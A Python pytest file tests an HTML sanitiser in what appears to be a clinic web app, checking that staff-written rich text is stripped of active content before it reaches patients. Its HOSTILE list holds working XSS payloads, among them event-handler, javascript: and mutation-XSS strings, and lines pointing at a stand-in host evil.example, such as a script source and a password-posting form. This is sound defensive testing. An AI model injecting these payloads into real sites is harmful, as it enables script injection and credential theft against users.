"""Rich text of staff: what stays, and what never reaches a patient."""

from __future__ import annotations

import pytest

from wxapp.core import richtext

HOSTILE = [
    "<script>alert(1)</script>",
    "<p>x<script src=//evil.example/x.js></script></p>",
    "<img src=x onerror=alert(1)>",
    '<img src="/media/abc" onload="alert(1)" style="width:9999px">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVa\tScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css"><style>@import "https://evil.example"</style>',
    '<p style="background:url(https://evil.example)">x</p>',
    '<p onclick="alert(1)" class="x" id="content" data-x="1">x</p>',
    '<img src="https://evil.example/track.gif">',
    '<img src="/media/../pc/settings">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<base href='https://evil.example/'>",
]
FORBIDDEN = ("script", "onerror", "onload", "onclick", "evil", "<iframe", "style", "<form", "<svg", "data:", "class=")


@pytest.mark.parametrize("text", HOSTILE)
def test_what_acts_or_leads_away_is_gone(text: str) -> None:
    cleaned = richtext.clean(text).lower().replace("alert(1)", "")
    assert not any(word in cleaned for word in FORBIDDEN)
    assert "/media/.." not in cleaned


@pytest.mark.parametrize("text", HOSTILE)
def test_cleaning_twice_changes_nothing(text: str) -> None:
    once = richtext.clean(text)
    assert richtext.clean(once) == once


@pytest.mark.parametrize(
    "text",
    [
        "<h3>服务</h3><p><strong>好</strong>而<em>快</em></p>",
        "<ul><li>一</li></ul><ol><li>二</li></ol>",
        '<p><img src="/media/abc-_9" alt="大厅"></p>',
        '<table><tbody><tr><th>项目</th><td colspan="2">说明</td></tr></tbody></table>',
        "<blockquote>慎重</blockquote>",
    ],
)  # fmt: skip
def test_plain_formatting_and_own_pictures_stay(text: str) -> None:
    assert richtext.clean(text) == text


@pytest.mark.parametrize("address", ["/about", "https://www.nhc.gov.cn/", "tel:02500000000"])
def test_links_stay(address: str) -> None:
    assert f'href="{address}"' in richtext.clean(f'<p><a href="{address}">看</a></p>')


def test_a_picture_without_words_is_not_read_out_by_its_address() -> None:
    assert richtext.clean('<p><img src="/media/abc"></p>') == '<p><img src="/media/abc" alt=""></p>'


def test_a_text_without_paragraphs_gets_one_per_line() -> None:
    assert richtext.clean("第一行\n\n 第二行 & <b>三</b>") == "<p>第一行</p><p>第二行 &amp; <b>三</b></p>"


@pytest.mark.parametrize("text", ["", "  ", "<p></p>", "<p><br></p>", "<p>&nbsp;</p>", "<img>", "<script>x</script>"])
def test_what_shows_nothing_is_nothing(text: str) -> None:
    assert richtext.clean(text) == ""


def test_words_in_one_line() -> None:
    assert richtext.plain("<h3>甲</h3><p>乙&amp;丙<br>丁</p>") == "甲 乙&丙 丁"
    assert richtext.plain("<p>一二三四五</p>", most=4) == "一二三…"
